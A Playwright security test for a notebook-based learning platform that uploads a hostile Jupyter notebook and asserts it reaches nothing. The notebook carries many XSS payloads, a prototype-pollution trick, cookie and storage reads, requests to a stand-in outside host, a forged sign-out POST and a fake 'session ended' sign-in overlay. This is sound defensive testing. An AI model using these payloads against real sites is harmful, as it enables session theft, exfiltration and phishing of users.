"""A notebook that attacks whoever opens it: the learner at work, and the mentor who runs what was handed in.

The site is served here with every request written down, beside a server that nobody has reason to call. What a notebook may reach is what
any stranger may, without a cookie; what its outputs may do is nothing.
"""

import json

from lms.labs.submit import bench_of, start
from tests.conftest import NOW, PASSWORD, new_person
from tests.steps import hand_in_within

REACHING = r"""
import js
from pyodide.ffi import to_js
said = {}

async def attempt(name, make):
    try:
        result = make()
        if hasattr(result, "then"):
            result = await result
        said[name] = f"got {str(result)[:60]}"
    except BaseException as error:
        said[name] = "refused"

HERE, ELSEWHERE = "@site@", "@elsewhere@"
post = to_js({"method": "POST", "credentials": "include", "mode": "no-cors"}, dict_converter=js.Object.fromEntries)
ways = {
    "fetch of a page": lambda: js.fetch(HERE + "/home"),
    "fetch to hand in": lambda: js.fetch(HERE + "/labs/SL1/work/hand-in", post),
    "fetch to sign out": lambda: js.fetch(HERE + "/sign-out", post),
    "fetch elsewhere": lambda: js.fetch(ELSEWHERE + "/fetch"),
    "the real fetch": lambda: js.Object.getPrototypeOf(js.self).constructor.prototype.fetch.call(js.self, ELSEWHERE + "/real"),
    "XMLHttpRequest": lambda: (lambda x: (x.open("GET", ELSEWHERE + "/xhr", False), x.send()))(js.XMLHttpRequest.new()),
    "WebSocket": lambda: js.eval("new Promise((ok, no) => { const s = new WebSocket('@elsewhere@'.replace('http', 'ws')); s.onopen = ok; s.onerror = no; })"),
    "EventSource": lambda: js.eval("new Promise((ok, no) => { const s = new EventSource('@elsewhere@/events'); s.onopen = ok; s.onerror = no; })"),
    "import": lambda: js.eval("import('@elsewhere@/module.mjs')"),
    "import of a page": lambda: js.eval("import('@site@/home')"),
    "importScripts": lambda: js.eval("WorkerGlobalScope.prototype.importScripts.call(self, '@elsewhere@/script.js')"),
    "beacon": lambda: js.navigator.sendBeacon(ELSEWHERE + "/beacon"),
    "a worker of its own": lambda: js.eval("new Promise((ok, no) => { const w = new Worker('data:text/javascript,' + encodeURIComponent(`fetch('@elsewhere@/nested').then(() => postMessage(1), () => postMessage(0))`)); w.onmessage = (e) => e.data ? ok() : no(); w.onerror = no; })"),
    "cookies": lambda: js.document.cookie,
    "cookie store": lambda: js.eval("cookieStore.getAll()"),
    "storage": lambda: js.localStorage.length,
    "the page's database": lambda: js.eval("new Promise((ok, no) => { const r = indexedDB.open('slipway'); r.onsuccess = ok; r.onerror = no; })"),
    "caches": lambda: js.eval("caches.keys()"),
    "the page": lambda: js.parent.document.title,
    "channels": lambda: js.eval("(() => { const c = new BroadcastChannel('slipway-1-SL1'); c.postMessage('opened'); throw 1; })()"),
}
for name, make in ways.items():
    await attempt(name, make)
forged = [
    {"t": "ready"}, {"t": "frame", "isIsolated": True}, {"t": "progress", "text": "<img src=x onerror=pwned=1>"},
    {"t": "done", "run": 99, "result": "{}"}, {"t": "ask", "run": 99, "prompt": "Your password?"},
    {"t": "answered", "id": 1, "value": "[]"}, {"t": "python", "text": '{"t":"out","run":1,"output":{"output_type":"nonsense"}}'},
    {"t": "python", "text": '{"t":"out","run":1,"output":{"output_type":"display_data","data":{"__proto__":{"polluted":1},"text/html":"<b onclick=pwned=1>x</b>"}}}'},
    {"t": "python", "text": "{"}, {"t": None}, {},
]
for message in forged:
    js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
print(said)
"""

# Formulas that draw over everything around them, as a link and in the colour of a page.
COVERING = r"""[$\rlap{\smash{\color{white}\rule[-30em]{90em}{90em}}}\rlap{\smash{\raisebox{12em}{Your session has ended. Press here to sign in.}}}$](@elsewhere@/cover)

[$\kern{-60em}\rlap{\smash{\color{white}\rule[-9em]{20em}{20em}\rule[-9em]{20em}{20em}\rule[-9em]{20em}{20em}\rule[-9em]{20em}{20em}}}$](@elsewhere@/cover)"""

SHOWING = r'''
from IPython.display import HTML, SVG, Javascript, JSON, Latex, Markdown, display
BAD = """<img src="@elsewhere@/img" onerror="window.pwned=1"><img src=x onerror="window.pwned=1"><script>window.pwned=1</script>
<a href="javascript:window.pwned=1" id="hand-in">x</a><iframe src="@elsewhere@/frame" srcdoc="<script>parent.pwned=1</script>"></iframe>
<style>@import "@elsewhere@/css"; body{display:none}</style><link rel=stylesheet href="@elsewhere@/link"><meta http-equiv=refresh content="0;url=@elsewhere@/meta">
<form action="@site@/sign-out" method=post><button id=go>go</button></form><object data="@elsewhere@/object"></object><embed src="@elsewhere@/embed">
<video src="@elsewhere@/video" autoplay></video><body background="@elsewhere@/bg"><div style="background:url(@elsewhere@/style)" onmouseover="window.pwned=1">x</div>
<svg><script>window.pwned=1</script><image href="@elsewhere@/svgimg"/><use href="@elsewhere@/use#x"/><foreignObject><img src=x onerror="window.pwned=1"></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1"></style></mglyph></table></mtext></math>"""
display(HTML(BAD)); display(Markdown(BAD + "\n\n![x](@elsewhere@/md) [y](javascript:window.pwned=1) [z](data:text/html,<script>parent.pwned=1</script>)"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><script>window.pwned=1</script><image href="@elsewhere@/svg2"/><a href="javascript:window.pwned=1"><text>x</text></a><style>@import "@elsewhere@/svgcss";</style></svg>'))
display(Latex(r"$\href{javascript:window.pwned=1}{x} \includegraphics{@elsewhere@/tex} \htmlClass{a}{b}$")); display(Javascript("window.pwned=1")); display(JSON({"<img src=x onerror=window.pwned=1>": 1}))
COVERING = r"""@covering@"""
display(Markdown(COVERING)); display(Latex(COVERING[COVERING.index("$"):COVERING.rindex("$") + 1])); display(Latex(COVERING[1:COVERING.index("](")]))
display({"text/html": BAD, "image/png": "iVBORw0KGgo=\" onerror=\"window.pwned=1", "text/plain": BAD}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": BAD}, "text/plain": BAD}, raw=True)
class Bad(Exception): pass
Bad.__name__ = BAD
open("<img src=x onerror=window.pwned=1>.txt", "w").write(BAD)
raise Bad(BAD)
'''


def hostile(site, elsewhere, *, outputs=()):
    def filled(text):
        text = text.replace("@covering@", COVERING)
        return text.replace("@site@", site.address).replace("@elsewhere@", elsewhere.address)

    def code(id_, text):
        source = filled(text)
        return {
            "cell_type": "code",
            "id": id_,
            "metadata": {},
            "source": source,
            "outputs": [],
            "execution_count": None,
        }

    answer = code("add", "def add(a, b):\n    return a + b")
    answer["metadata"] = {
        "nbgrader": {"grade_id": "add", "solution": True, "grade": False, "schema_version": 3}
    }
    stored = code("stored", "1")
    stored["outputs"] = list(outputs)
    bad = '"><img src=x onerror=window.pwned=1>'
    named = code(bad, "2")
    named["metadata"] = {"nbgrader": {"grade_id": bad, "solution": True, "points": bad}, bad: bad}
    text = {
        "cell_type": "markdown",
        "id": "text",
        "metadata": {},
        "source": f"<script>window.pwned=1</script> ![a](attachment:a)\n\n[x](javascript:window.pwned=1) ![]({elsewhere.address}/cell)",
    }
    text["attachments"] = {
        "a": {"image/svg+xml": "<svg onload=window.pwned=1>", "image/png": '" onerror="window.pwned=1'}
    }
    covering = {"cell_type": "markdown", "id": "covering", "metadata": {}, "source": filled(COVERING)}
    cells = [answer, covering, code("reaching", REACHING), code("showing", SHOWING), stored, named, text]
    return {
        "cells": cells,
        "metadata": {"title": "</script><script>window.pwned=1</script>"},
        "nbformat": 4,
        "nbformat_minor": 5,
    }


def sign_in(browser, site, person):
    context = browser.new_context(base_url=site.address)
    page = context.new_page()
    page.set_default_timeout(20_000)
    page.goto("/sign-in")
    page.get_by_label("E-mail").fill(person.email)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("main").get_by_role("button", name="Sign in").click()
    page.wait_for_url("**/home")
    return page


def run_it(page):
    page.wait_for_selector("html[data-notebook=ready]")
    for cell in ("reaching", "showing"):
        # By key: a long editor that is scrolled to measures its lines a moment later, which moves the button under a pointer.
        page.locator(f"[data-cell={cell}] .nb-run").press("Enter")
        page.wait_for_selector(
            f"[data-cell={cell}]:is([data-state=done], [data-state=failed])", timeout=150_000
        )
    page.wait_for_timeout(500)


def told(page):
    return page.locator("[data-cell=reaching] .nb-outputs").inner_text()


CONTROLS = "header a, .nb-bar :is(button:enabled, summary), .nb-side summary, .nb-head :is(button, summary), .nb-end button"
COVERED = """controls => controls.filter((each) => each.checkVisibility()).flatMap((control) => {
  const { left, top, width, height } = control.getBoundingClientRect();
  const there = document.elementFromPoint(left + width / 2, top + height / 2);
  return there ? [[control.textContent.trim(), Boolean(there.closest(".prose, .nb-outputs"))]] : [];
})"""


def assert_nothing_is_covered(page, near):
    """Whatever the notebook draws near there: under the middle of each control in sight is no part of it."""
    for place in ("start", "center", "end"):
        page.locator(near).evaluate(
            "(element, block) => element.scrollIntoView({ block, behavior: 'instant' })", place
        )
        page.wait_for_timeout(100)
        seen = page.locator(CONTROLS).evaluate_all(COVERED)
        assert len(seen) > 5, seen
        assert [name for name, is_covered in seen if is_covered] == []


EXPECTED = (
    "/static/",
    "/runtime",
    "/labs/SL1/work",
    "/submissions/1/",
    "/labs/SL1/files/",
    "/favicon",
    "/labs/SL1/modules/",
)


def assert_harmless(page, site, elsewhere, since):
    assert elsewhere.requests == []
    assert page.evaluate("[window.pwned, {}.polluted]") == [None, None]
    later = site.requests[since:]
    assert [path for _method, path, _cookie in later if not path.startswith(EXPECTED)] == []
    assert [path for method, path, _cookie in later if method not in ("GET", "PUT", "HEAD")] == []
    # What the frame itself fetches comes without a session.
    assert all(not cookie for _method, path, cookie in later if path.endswith(("/frame.js",)))
    said = told(page)
    assert "got" not in said, said
    assert said.count("refused") >= 18
    assert page.url.startswith(site.address)
    for near in ("[data-cell=covering]", "[data-cell=showing] .nb-outputs"):
        assert_nothing_is_covered(page, near)


def test_a_hostile_notebook_reaches_nothing_of_the_learner_and_nothing_of_the_mentor(
    chromium, watched_site, elsewhere
):
    open_it_as_learner_and_as_mentor(chromium, watched_site, elsewhere)


def open_it_as_learner_and_as_mentor(browser, site, elsewhere):
    page = browser.new_page()
    page.evaluate("(address) => fetch(address + '/control')", elsewhere.address)
    page.close()
    assert elsewhere.paths("GET") == ["/control"]  # whoever may reach it does, and it is written down
    elsewhere.requests.clear()

    ada, miriam = new_person(site.services, "Ada"), new_person(site.services, "Miriam", mentor=True)
    page = sign_in(browser, site, ada)
    with site.services.database.transaction() as session:
        bench = bench_of(session, site.services.shelf, ada.id, "SL1")
        start(session, ada.id, bench.lab, bench.edition.id, now=NOW)
    page.goto("/labs/SL1/work")
    page.get_by_text("From elsewhere").click()
    file = {
        "name": "work.ipynb",
        "mimeType": "application/json",
        "buffer": json.dumps(hostile(site, elsewhere)).encode(),
    }
    page.get_by_label("A notebook you worked on elsewhere").set_input_files(file)
    page.get_by_role("button", name="Upload").click()
    page.wait_for_selector("html[data-notebook=ready]")
    since = len(site.requests)
    run_it(page)
    assert_harmless(page, site, elsewhere, since)
    outputs = page.evaluate("fetch('/labs/SL1/work/notebook').then((answer) => answer.json())")
    stored = next(cell for cell in outputs["cells"] if cell["id"] == "showing")["outputs"]
    page.context.close()

    # The mentor opens it: outputs that were stored in the file are drawn at once, then it is run.
    with site.services.database.transaction() as session:
        data = json.dumps(hostile(site, elsewhere, outputs=stored)).encode()
        hand_in_within(session, site.services, ada.id, data)
    page = sign_in(browser, site, miriam)
    since = len(site.requests)
    page.goto("/submissions/1/run")
    page.wait_for_selector("html[data-notebook=ready]")
    page.wait_for_timeout(300)
    run_it(page)
    assert_harmless(page, site, elsewhere, since)
    assert site.paths("POST").count("/sign-in") == 2
    page.context.close()
